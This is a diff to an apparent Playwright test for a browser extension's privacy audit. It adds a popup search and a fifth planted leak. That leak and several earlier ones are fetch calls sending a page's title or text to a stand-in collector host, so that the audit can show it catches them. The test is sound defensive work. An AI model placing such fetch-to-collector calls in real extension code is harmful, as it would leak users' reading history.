@@ -1,7 +1,7 @@
 /**
  * The privacy audit, in real Chromium: articles of every default site read (the shared corpus's saved
  * pages and the project's fixtures, each served as its real address), the panel opened on each, a link
- * in it clicked, a feed added and synced, the popup opened; every request of the session recorded by
+ * in it clicked, a feed added and synced, the popup opened and searched; every request of the session recorded by
  * Chromium's net log, which sees the service worker's fetches too (Playwright's request events do not).
  * Then scripts/lib/privacy-audit.ts classifies each request, and nothing may break the promise: the
  * extension asks only its configured feeds, and no request carries a page's address or text.
@@ -84,6 +84,8 @@ interface Session {
   read: string[];
   clicked: string;
   planted: string[];
+  /** Results the popup's search showed for the article's headline. */
+  searched: number;
 }
 
 let session: Session;
@@ -210,11 +212,24 @@ beforeAll(async () => {
     const popup = await browser.context.newPage();
     await popup.goto(`${extensionOrigin}/popup.html`);
     await popup.getByText(/items on \d+ entities/).waitFor();
+    // A search in it, typed as a person types: the headline of the article being read, so a request
+    // carrying the query would carry the page's title too, and the audit would see it.
+    const demo = texts.get(DEMO_URL) as Pick<AuditedPage, 'title' | 'paragraphs'>;
+    const query = (demo.title.split(/\s+[|–—-]\s+/).sort((a, b) => b.length - a.length)[0] ?? '').slice(0, 48);
+    await popup.getByLabel('Search the archive').pressSequentially(query, { delay: 20 });
+    const results = popup.locator('#archive-search-results [role="option"]');
+    await results.first().waitFor();
+    const searched = await results.count();
 
     // The planted leaks: the worker fetching elsewhere, and fetching the feed with a page's text and
     // title; the content script's world (as `scripting.executeScript` runs it) fetching elsewhere.
-    const demo = texts.get(DEMO_URL) as Pick<AuditedPage, 'title' | 'paragraphs'>;
-    const planted = [`${COLLECTOR}/planted-1`, `${FEED_INDEX}?planted-2`, `${FEED_INDEX}?planted-3`, `${COLLECTOR}/planted-4`];
+    const planted = [
+      `${COLLECTOR}/planted-1`,
+      `${FEED_INDEX}?planted-2`,
+      `${FEED_INDEX}?planted-3`,
+      `${COLLECTOR}/planted-4`,
+      `${COLLECTOR}/planted-5`,
+    ];
     const worker = await browser.worker();
     await worker.evaluate(
       async ({ planted: [one, two, three], page, paragraph, title }) => {
@@ -247,6 +262,11 @@ beforeAll(async () => {
       },
       { url: DEMO_URL, target: planted[3] as string },
     );
+    // The popup's page sending its query elsewhere.
+    await popup.evaluate(async ({ to, q }) => void (await fetch(`${to}?q=${encodeURIComponent(q)}`).catch(() => undefined)), {
+      to: planted[4] as string,
+      q: query,
+    });
     await tab.waitForTimeout(500);
     const configured = (await feedViews(options)).map((f) => f.url);
     await browser.close();
@@ -264,7 +284,7 @@ beforeAll(async () => {
       pages,
       navigations: [...PAGES.map((p) => p.url), clicked],
     });
-    session = { audit, extensionOrigin, read, clicked, planted };
+    session = { audit, extensionOrigin, read, clicked, planted, searched };
     const count = (kind: keyof Audit['byKind']) => audit.byKind[kind].length;
     console.log(
       `privacy audit: ${PAGES.length} pages (${read.length} read by Backstory) on ${new Set(PAGES.map((p) => siteOfUrl(p.url))).size} sites; ` +
@@ -281,8 +301,9 @@ beforeAll(async () => {
 const isPlanted = (url: string) => session.planted.some((p) => url.startsWith(p));
 
 describe('the privacy audit of a reading session', () => {
-  it('covers at least 20 pages across every default site, a sync, the popup and the panel', () => {
+  it('covers at least 20 pages across every default site, a sync, a search in the popup and the panel', () => {
     expect(session.read.length).toBeGreaterThanOrEqual(20);
+    expect(session.searched).toBeGreaterThan(0);
     expect(new Set(session.read.map(siteOfUrl)).size).toBe(DEFAULT_SITES.length);
     // The worker's requests are in the log: the sync's, and the planted ones.
     const extension = session.audit.byKind.extension.map((r) => r.urls[0]);
@@ -290,7 +311,7 @@ describe('the privacy audit of a reading session', () => {
     expect(extension.filter((url) => url?.includes('/pages/')).length).toBeGreaterThan(0);
   });
 
-  it('finds each planted leak: the worker asking elsewhere, the page’s text in a body, its title in a header, the content script’s world asking elsewhere', () => {
+  it('finds each planted leak: the worker asking elsewhere, the page’s text in a body, its title in a header, the content script’s world asking elsewhere, the popup sending its query out', () => {
     const reasons = (marker: string) =>
       session.audit.findings
         .filter((f) => f.request.urls[0]?.includes(marker))
@@ -306,6 +327,10 @@ describe('the privacy audit of a reading session', () => {
     expect(reasons('planted-4')).toEqual([
       `page: carries the text of ${DEMO_URL} in its URL`,
       'page: from https://techcrunch.com to collector.example.net, a host its page neither is nor names',
+    ]);
+    expect(reasons('planted-5')).toEqual([
+      `extension: carries the title of ${DEMO_URL} in its URL`,
+      expect.stringMatching(/^extension: to an address that is not a configured feed: https:\/\/collector\.example\.net\/planted-5/),
     ]);
   });
 
